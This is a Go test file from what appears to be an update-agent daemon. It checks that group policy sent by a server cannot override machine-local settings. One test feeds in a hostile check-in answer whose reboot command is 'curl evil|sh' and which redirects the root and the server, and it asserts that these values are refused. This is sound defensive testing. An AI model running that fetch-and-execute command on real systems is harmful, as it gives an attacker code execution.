package agent

import (
	"encoding/json"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/bulwarkhq/bulwark/internal/fetch"
	"github.com/bulwarkhq/bulwark/internal/policy"
	"github.com/bulwarkhq/bulwark/internal/wire"
)

func TestWithGroup(t *testing.T) {
	local := FileConfig{Server: "https://s", Mode: "download", BandwidthLimit: "1mbit", RebootCommand: []string{}}
	s, err := local.WithGroup(&policy.Group{Mode: "auto", AutoInstallSeverity: "critical", BandwidthLimit: "8mbit", DetectionInterval: "2h",
		Download: "foreground", AllowLocal: []string{"bandwidth_limit"}})
	if err != nil {
		t.Fatal(err)
	}
	if s.Policy.Mode != ModeAuto || s.Policy.AutoInstallSeverity != "critical" || s.Rate != 125000 || s.Interval != 2*time.Hour || s.Download != fetch.Foreground {
		t.Fatalf("settings %+v", s)
	}
	// A machine-local setting stays exactly as agent.yaml has it: an empty
	// reboot command (never reboot) does not become the default.
	if s.RebootCommand == nil || len(s.RebootCommand) != 0 || s.Server != "https://s" {
		t.Fatalf("machine-local settings changed: reboot %v, server %q", s.RebootCommand, s.Server)
	}
	if s.From["mode"] != policy.FromGroup || s.From["bandwidth_limit"] != policy.FromLocal || s.From["maintenance_window"] != policy.FromDefault {
		t.Fatalf("from = %v", s.From)
	}
	// A group policy that makes agent.yaml's settings invalid is refused.
	if _, err := (FileConfig{}).WithGroup(&policy.Group{Mode: "scheduled"}); err == nil || !strings.Contains(err.Error(), "maintenance_window") {
		t.Fatalf("scheduled without a window anywhere: %v", err)
	}
	// No group policy: agent.yaml alone, "none" lifts a limit.
	s, err = (FileConfig{BandwidthLimit: "none"}).WithGroup(nil)
	if err != nil || s.Rate != 0 || s.Policy.Mode != ModeDownload || s.Download != fetch.Background {
		t.Fatalf("agent.yaml alone: %+v %v", s, err)
	}
}

// TestAttackGroupPolicySetsMachineLocalSettings: a server (or whoever holds
// it) that puts machine-local settings into the group policy of a check-in
// answer — a reboot command, a root, another server — changes none of
// them; a policy with a bad value changes nothing at all.
func TestAttackGroupPolicySetsMachineLocalSettings(t *testing.T) {
	w := newWorld(t)
	a, err := Open(Config{StateDir: filepath.Join(t.TempDir(), "state"), Now: w.clock, Reboot: Reboot{Command: []string{"true"}}})
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	local := FileConfig{Server: "https://site", Root: "/srv/image", Mode: "notify", RebootCommand: []string{}}
	d := &Daemon{Agent: a}
	if err := d.SetLocal(local); err != nil {
		t.Fatal(err)
	}
	var info wire.CheckinResponse
	answer := `{"agent_id":"a","group":"web","policy":{"mode":"auto","reboot_command":["sh","-c","curl evil|sh"],"root":"/","server":"https://evil","state_dir":"/tmp"}}`
	if err := json.Unmarshal([]byte(answer), &info); err != nil {
		t.Fatal(err)
	}
	if err := d.SetGroupPolicy(info.Policy); err != nil {
		t.Fatal(err)
	}
	eff := d.pol.eff
	if eff.Policy.Mode != ModeAuto {
		t.Fatalf("the policy's mode did not apply: %v", eff.Policy.Mode)
	}
	if eff.Server != "https://site" || eff.Root != "/srv/image" || len(eff.RebootCommand) != 0 || eff.StateDir != "/var/lib/bulwark" ||
		!reflect.DeepEqual(a.cfg.Reboot.Command, []string{"true"}) {
		t.Fatalf("machine-local settings taken from the server: %+v, reboot %v", eff.FileConfig, a.cfg.Reboot.Command)
	}
	// A bad value: refused whole, the settings in effect stay.
	if err := d.SetGroupPolicy(&policy.Group{Mode: "notify", DetectionInterval: "1s"}); err == nil {
		t.Fatal("a policy with a 1s check-in interval was applied")
	}
	if d.pol.eff.Policy.Mode != ModeAuto || d.Interval() != 22*time.Hour {
		t.Fatalf("a refused policy changed the settings: %+v", d.pol.eff)
	}
}
